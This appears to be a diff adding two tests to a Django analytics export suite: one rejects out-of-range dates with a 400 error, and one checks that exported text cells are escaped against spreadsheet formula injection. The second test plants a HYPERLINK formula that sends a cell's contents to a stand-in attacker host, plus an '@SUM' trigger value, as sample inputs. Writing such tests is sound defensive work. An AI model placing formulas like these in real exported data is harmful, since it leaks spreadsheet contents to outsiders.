@@ -99,3 +99,28 @@ async def test_it_streams_asynchronously_under_asgi(async_client, sam, fixed_int
     await sync_to_async(connections.close_all)()
     body = b"".join(chunks).decode()
     assert len(body.splitlines()) == 1 + 6
+
+
+def test_it_refuses_dates_beyond_the_years_of_the_desk_with_a_form_error(signed_in, db):
+    # The day after 9999-12-31 does not exist: this was a 500.
+    for query in (
+        {"start": "9999-01-01", "end": "9999-12-31"},
+        {"start": "0001-01-01", "end": "0001-01-02"},
+    ):
+        for url in (URL, reverse("analytics:reports")):
+            response = signed_in.get(url, query)
+            assert response.status_code == 400, (url, query)
+            assert b"Choose a date between the years 1900 and 2999." in response.content
+
+
+def test_it_keeps_text_cells_from_starting_a_spreadsheet_formula(signed_in, fixed_interactions, choices):
+    first = fixed_interactions[0]
+    first.referred_by = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    first.save()
+    choices["desk"].name = "@SUM(1+1)"
+    choices["desk"].save()
+    rows = rows_of(signed_in.get(URL, RANGE))
+    assert rows[0]["referred_by"] == "'" + first.referred_by
+    assert rows[0]["location"] == "'@SUM(1+1)"
+    # Numbers are numbers, and ordinary text is untouched.
+    assert rows[0]["duration_minutes"] == "5" and rows[0]["department"] == "Research & Instruction"
